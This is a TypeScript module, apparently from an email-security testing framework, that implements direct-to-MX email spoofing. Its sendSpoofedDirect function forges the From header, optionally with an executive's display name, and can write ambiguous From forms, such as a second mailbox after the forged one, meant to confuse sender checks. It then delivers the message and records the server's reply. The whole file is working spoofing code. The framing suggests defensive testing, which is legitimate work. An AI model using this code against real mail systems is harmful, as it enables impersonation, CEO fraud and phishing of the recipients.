import type { MimeAttachmentInput } from '@ssmax/core';
import { composeMail, formatAddress, messageIdOf } from './compose-mail.js';
import { fromFieldLines, withFromForm, type FromForm } from './from-forms.js';
import type { AttackerContext, ServiceRef, SmtpCredentials } from './footholds.js';
import { OutcomeRecorder, type AttackOutcome } from './outcome.js';
import { mxOf, smtpSend, type ClientTls } from './smtp-send.js';

/** The message an attack sends: prebuilt bytes, or parts to compose. */
export interface MailContent {
  readonly subject?: string;
  readonly text?: string;
  readonly attachments?: readonly MimeAttachmentInput[];
  /** Sends these exact bytes instead of composing (headers included). */
  readonly raw?: Uint8Array;
}

/** @internal Sends and records the result on `rec` (sent on 2xx, error otherwise). */
export async function deliverAndRecord(
  ctx: AttackerContext,
  rec: OutcomeRecorder,
  o: { target: ServiceRef; envelope: { from: string; to: readonly string[] }; raw: Uint8Array; auth?: SmtpCredentials; tls?: ClientTls },
): Promise<AttackOutcome> {
  rec.act(
    `SMTP from ${ctx.address} to ${o.target.host}:${o.target.port}${o.auth ? ` as ${o.auth.user}` : ''}: MAIL FROM:<${o.envelope.from}> RCPT TO:${o.envelope.to.map((t) => `<${t}>`).join(',')}`,
  );
  const r = await smtpSend(ctx, o);
  if (r.ok) {
    rec.sent = { messageId: messageIdOf(o.raw), smtpReply: r.reply, raw: o.raw, envelope: { from: o.envelope.from, to: [...o.envelope.to] } };
    rec.act(`accepted: ${r.reply}`);
  } else {
    rec.fail(r.failure.code, r.failure.message, r.failure.smtpReply);
    rec.act(`refused: ${r.failure.smtpReply ?? r.failure.message}`);
  }
  return rec.done();
}

export interface SpoofDirectOptions extends MailContent {
  /** The address forged in From. */
  readonly spoofedFrom: string;
  /** A display name to show (e.g. the CEO's name in front of the attacker's own address). */
  readonly displayName?: string;
  /**
   * A second mailbox written into From after the forged one, in angle brackets: `From: <forged>, <<also>>`.
   * A reader that takes the first angle-address sees this one, a reader that takes the first mailbox the
   * forged one (RFC 5322 §3.6.2 allows several authors, with a Sender).
   */
  readonly alsoFrom?: string;
  /**
   * Writes From in one of the ambiguous forms of {@link FROM_FORMS} instead, with `alsoFrom` as the
   * attacker's own address in it (required then); 'two-mailboxes' is what `alsoFrom` alone does.
   */
  readonly fromForm?: FromForm;
  readonly to: string | readonly string[];
  /** MAIL FROM; default the forged From (so SPF is evaluated against the forged domain). */
  readonly envelopeFrom?: string;
  /** The receiving MX; default the recipient domain's MX on port 25. */
  readonly mx?: ServiceRef;
  readonly tls?: ClientTls;
}

/**
 * Pattern A / incident 2: connects straight to the recipient's MX from the attacker's own address and
 * sends a mail whose From (and display name) names someone else. The MX's SPF/DKIM/DMARC checks, not the
 * attacker, decide what happens; the reply is recorded as data.
 */
export async function sendSpoofedDirect(ctx: AttackerContext, o: SpoofDirectOptions): Promise<AttackOutcome> {
  const rec = new OutcomeRecorder('spoof-direct');
  const to = typeof o.to === 'string' ? [o.to] : [...o.to];
  if (o.fromForm !== undefined && o.alsoFrom === undefined)
    throw new TypeError("Cannot write an ambiguous From. fromForm needs alsoFrom, the attacker's own address.");
  const from = `${formatAddress(o.displayName, o.spoofedFrom)}${o.alsoFrom && o.fromForm === undefined ? `, <${o.alsoFrom}>` : ''}`;
  const composed =
    o.raw ??
    composeMail({
      from,
      to,
      subject: o.subject ?? '',
      text: o.text ?? '',
      ...(o.attachments ? { attachments: o.attachments } : {}),
      ...(ctx.now ? { date: ctx.now() } : {}),
    });
  const raw = o.fromForm !== undefined ? withFromForm(composed, o.fromForm, o.spoofedFrom, o.alsoFrom!) : composed;
  rec.act(
    o.fromForm !== undefined
      ? `forged From (${o.fromForm}): ${JSON.stringify(fromFieldLines(o.fromForm, o.spoofedFrom, o.alsoFrom!).lines)}`
      : `forged From: ${from}`,
  );
  const mx = o.mx ?? { host: await mxOf(ctx, to[0]!.split('@')[1] ?? ''), port: 25 };
  return deliverAndRecord(ctx, rec, { target: mx, envelope: { from: o.envelopeFrom ?? o.spoofedFrom, to }, raw, ...(o.tls ? { tls: o.tls } : {}) });
}
